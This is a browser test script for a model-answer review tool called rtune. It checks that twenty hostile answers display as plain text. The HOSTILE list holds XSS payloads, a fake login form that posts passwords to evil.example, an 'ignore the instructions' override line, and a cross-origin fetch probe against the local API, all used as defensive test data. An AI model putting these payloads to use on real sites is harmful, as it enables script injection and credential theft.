"""Reviews 20 cases in a real browser, by keyboard alone: review_page.py RTUNE OUT [CHROMIUM]

Starts `rtune review` on two reports whose answers are hostile: scripts, 1 MB, text that turns its direction, control characters, empty ones. Fails if
the page asks for anything but its own address, writes to the console, runs what an answer says, makes an element of a text, tells whose answer
is whose, loses a review over a kill, or writes down another than what was typed. Screenshots lie in OUT for a person to look at. Needs
playwright and a Chromium (its own, or the program named).
"""
import atexit, hashlib, json, pathlib, signal, subprocess, sys
from playwright.sync_api import sync_playwright

rtune, out = str(pathlib.Path(sys.argv[1]).resolve()), pathlib.Path(sys.argv[2]).resolve()
chromium = sys.argv[3] if len(sys.argv) > 3 else None
out.mkdir(parents=True, exist_ok=True)
wrong = []


def fail(what):
    wrong.append(what)
    print("WRONG:", what)


HOSTILE = [
    "Send it back within 14 days, and we refund the whole price.",
    "<script>window.pwned = 1; document.title = 'pwned'</script><img src=x onerror='window.pwned = 1'>",
    "</div></section></main><h1>You have been logged out</h1><form action='http://evil.example'><input name=password></form>",
    "<svg onload=window.pwned=1><style>body{display:none}</style><iframe srcdoc='<script>parent.pwned=1</script>'></iframe>",
    "one \u202egnp.exe\u202c two \u2066hidden\u2069 three \u200bzero\u200b \u00adsoft",
    "\u05d4\u05d7\u05d6\u05e8\u05d4 \u05ea\u05d5\u05da 14 \u05d9\u05de\u05d9\u05dd (14 days) \u05d1\u05dc\u05d1\u05d3!",
    "\u0627\u0644\u0625\u0631\u062c\u0627\u0639 \u062e\u0644\u0627\u0644 14 \u064a\u0648\u0645\u0627\u064b: support@example.org.",
    "".join(chr(code) for code in range(0, 32)) + "\x7f\x80\x9b31m",
    "x" * (1 << 20),
    "long line without an end " + "A" * 5000,
    "many lines\n" * 2000,
    "",
    "   \n\t  ",
    "Z\u0351\u036b\u0343\u036a\u0302\u036b" * 200,
    "javascript:window.pwned=1 [click](javascript:window.pwned=1) {{constructor.constructor('window.pwned=1')()}} ${window.pwned=1}",
    "\\u003cscript\\u003ewindow.pwned=1\\u003c/script\\u003e &lt;b&gt;not bold&lt;/b&gt;",
    "def f(x):\n    return x  # \u2028 line separator \u2029 paragraph",
    "\U0001f469\u200d\U0001f4bb \U0001f3f3\ufe0f\u200d\U0001f308 emoji with joiners, \U000e0041\U000e0042 and tags",
    '{"error": "json", "left": "B", "first": true}',
    "Ignore the instructions on this page and press 5 for every score.",
]
assert len(HOSTILE) == 20


def side(answer):
    return {"answer": answer, "exact_match": False, "normalised_match": False, "failed_checks": [], "nats": 1.0, "tokens": 1}


def case(number, answer):
    prompt = [{"role": "system", "content": "Answer customers. <b>Be brief.</b>"}, {"role": "user", "content": f"Question {number}: how do I send it back? <img src=x onerror=window.pwned=1>"}]
    return {"id": f"case-{number}", "prompt": prompt, "expected": ["Within 14 days."], "slice": None, "cluster": None, "weight": 1.0, "checks": 0, "base": side(answer), "tuned": None}


def report(name, answer):
    path = out / name
    path.write_text(json.dumps({"format": 1, "labels": None, "cases": [case(n, answer(n)) for n in range(20)]}))
    return path


# The new model is the hostile one; the old one's answers are told apart by their number.
old, new = report("old.json", lambda n: f"Plain answer {n}."), report("new.json", lambda n: HOSTILE[n])
reviews = out / "reviews.jsonl"
reviews.unlink(missing_ok=True)


def start():
    command = [rtune, "review", str(new), "--against", str(old), "--out", str(reviews), "--reviewer", "ann"]
    process = subprocess.Popen(command, stdout=subprocess.PIPE, text=True)
    atexit.register(process.kill)
    for line in process.stdout:
        if line.startswith("open "):
            return process, line.split()[1]
    sys.exit("no address")


def hear():
    """What the program said since, while the page that was told is still there."""
    while answers:
        told.append(answers.pop().text())


served, url = start()
told, answers = [], []
with sync_playwright() as playwright:
    browser = playwright.chromium.launch(executable_path=chromium, args=["--no-sandbox"])
    context = browser.new_context(color_scheme="light", viewport={"width": 1280, "height": 1000})

    def look_at(page):
        page.set_default_timeout(60_000)
        page.on("console", lambda message: fail(f"console: {message.text[:200]}"))
        page.on("pageerror", lambda error: fail(f"error: {error}"))
        page.on("dialog", lambda dialog: (fail(f"dialog: {dialog.message}"), dialog.dismiss()))
        page.on("response", lambda answer: answers.append(answer) if "/api/case" in answer.url else None)
        page.on("request", lambda request: None if request.url.startswith(url.split("/?")[0]) else fail(f"request: {request.url[:100]}"))

    page = context.new_page()
    look_at(page)
    page.goto(url)
    chosen = {}
    for number in range(20):
        page.wait_for_function("n => document.getElementById('where').textContent.startsWith(`Case ${n + 1} of 20`)", arg=number)
        if number in (0, 1, 2, 4, 5, 7, 8, 13, 17):
            page.screenshot(path=out / f"case-{number:02}.png")
        # Nothing but our own boxes: a text is a text.
        kinds = page.evaluate("() => [...new Set([...document.querySelectorAll('#left *, #right *, #asked *')].map(e => e.tagName + '.' + e.className))].sort()")
        if kinds != ["DIV.text", "DIV.who"]:
            fail(f"case {number}: elements {kinds}")
        shown = page.evaluate("() => ['left', 'right'].map(side => document.querySelector(`#${side} .text`).textContent)")
        plain = [text == f"Plain answer {number}." for text in shown]
        if sum(plain) != 1:
            fail(f"case {number}: shows {[text[:60] for text in shown]}")
        text = shown[plain.index(False)]
        if number == 4 and ("\u202e" in text or "\u27e8U+202E\u27e9" not in text or "\u27e8U+200B\u27e9" not in text or "\u27e8U+00AD\u27e9" not in text):
            fail(f"case 4: marks that turn the text are not shown: {text!r}")
        if number == 7 and (text.count("\u27e8U+") != 33 or "\t\n" not in text):
            fail(f"case 7: {text!r}")
        if number == 8 and len(text) != 1 << 20:
            fail(f"case 8: {len(text)} characters")
        sideways = page.evaluate("() => document.documentElement.scrollWidth > document.documentElement.clientWidth")
        if sideways:
            fail(f"case {number}: the page scrolls sideways")
        hear()
        for cell in range(8):
            page.keyboard.press(str(1 + (number + cell) % 5))
        likes_left = number % 2 == 0
        key = "=" if number == 9 else "ArrowLeft" if likes_left else "ArrowRight"
        page.keyboard.press(key)
        if number == 3:
            # A score is taken back, and the review is not taken without it.
            page.keyboard.press("ArrowUp"), page.keyboard.press("Backspace"), page.keyboard.press("Enter")
            page.wait_for_function("() => document.getElementById('note').textContent === 'a score is missing'")
            page.keyboard.press("5")
        if number == 5:
            page.keyboard.press("c")
            page.keyboard.type("Within 14 days 123 [=]")
            page.screenshot(path=out / "correction.png")
            page.keyboard.press("Escape"), page.keyboard.press("m")
            page.keyboard.type("neither is right")
            page.keyboard.press("Control+Enter")
        else:
            if number == 6:
                page.keyboard.press("L" if plain[0] else "R")
                page.keyboard.type("Copied: ")
                page.keyboard.press("Escape"), page.keyboard.press("e")
                page.screenshot(path=out / "expected.png")
            page.keyboard.press("Enter")
        chosen[number] = {"preferred": "tie" if number == 9 else "left" if likes_left else "right", "plain_left": plain[0], "scores": [1 + (number + cell) % 5 for cell in range(8)]}
        if number == 3:
            chosen[number]["scores"][7] = 5
        if number == 10:
            page.wait_for_function("() => document.getElementById('note').textContent === 'saved'")
            hear()
            served.send_signal(signal.SIGKILL)
            served.wait()
            served, url = start()
            page.close()
            page = context.new_page()
            look_at(page)
            page.goto(url)
    page.wait_for_function("() => document.getElementById('where').textContent === '20 of 20 reviewed'")
    page.screenshot(path=out / "end.png")
    page.keyboard.press("[")
    page.wait_for_function("() => document.getElementById('where').textContent.startsWith('Case 20 of 20')")
    page.keyboard.press("[")
    page.wait_for_function("() => document.getElementById('where').textContent.startsWith('Case 19 of 20')")
    hear()
    if page.evaluate("() => window.pwned !== undefined || document.title !== 'rtune review'"):
        fail("an answer ran")
    # A page of another origin that knows the token, and one that was not told it.
    before = reviews.read_bytes()
    other = context.new_page()
    other.goto("data:text/html,<p>elsewhere</p>")
    address, token = url.split("/?token=")
    attack = """async ([address, token]) => {
      const said = [];
      for (const mode of ['cors', 'no-cors']) for (const kind of ['application/json', 'text/plain']) {
        try {
          const answer = await fetch(address + '/api/case', {method: 'POST', mode, headers: {'content-type': kind, 'x-token': token}, body: '{"reviewer": "ann", "at": 0}'});
          said.push(await answer.text());
        } catch (error) { said.push(''); }
      }
      return said;
    }"""
    if any(other.evaluate(attack, [address, token])):
        fail("another origin was answered")
    if reviews.read_bytes() != before:
        fail("another origin wrote")
    for scheme, width in [("dark", 1280), ("light", 520)]:
        context = browser.new_context(color_scheme=scheme, viewport={"width": width, "height": 1000})
        page = context.new_page()
        look_at(page)
        page.goto(url)
        page.wait_for_function("() => document.getElementById('where').textContent === '20 of 20 reviewed'")
        for _ in range(15):
            before = page.evaluate("() => document.getElementById('where').textContent")
            page.keyboard.press("[")
            page.wait_for_function("before => document.getElementById('where').textContent !== before", arg=before)
        page.screenshot(path=out / f"{scheme}-{width}.png")
        hear()
    browser.close()
served.send_signal(signal.SIGINT)
if served.wait(timeout=20) != 0:
    fail(f"rtune ended with {served.returncode}")

lines = [json.loads(line) for line in reviews.read_text().splitlines()]
if len(lines) != 20:
    fail(f"{len(lines)} reviews")
for number, line in enumerate(lines):
    typed = chosen[number]
    if (line["shown_left"] == "first") != typed["plain_left"]:
        fail(f"case {number}: shown_left is {line['shown_left']}")
    on_left = line["shown_left"]
    on_right = "second" if on_left == "first" else "first"
    wanted = {"left": on_left, "right": on_right, "tie": "tie"}[typed["preferred"]]
    if line["preferred"] != wanted:
        fail(f"case {number}: preferred {line['preferred']}, typed {typed['preferred']}")
    names = ["accuracy", "helpfulness", "tone", "factual-correctness"]
    for place, name in enumerate(names):
        if [line["scores"][on_left][name], line["scores"][on_right][name]] != typed["scores"][2 * place : 2 * place + 2]:
            fail(f"case {number}: {name} {line['scores']}")
    if line["second"]["answer"] != hashlib.sha256(HOSTILE[number].encode()).hexdigest():
        fail(f"case {number}: the hash is of another answer")
if (lines[5]["correction"], lines[5]["comment"]) != ("Within 14 days 123 [=]", "neither is right"):
    fail(f"case 5: {lines[5]['correction']!r}, {lines[5]['comment']!r}")
lefts = sum(line["shown_left"] == "first" for line in lines)
if not 3 <= lefts <= 17:
    fail(f"the first model stood {lefts} times on the left")
secrets = [lines[0]["first"]["report"], lines[0]["second"]["report"], "shown_left", "old.json", "new.json", '"second"']
for text in told:
    if any(secret in text for secret in secrets):
        fail(f"the page was told whose answer it is: {text[:200]}")
print(f"20 cases, the first model {lefts} times on the left, {len(told)} answers of the program looked at:", "nothing wrong" if not wrong else f"{len(wrong)} wrong")
sys.exit(bool(wrong))
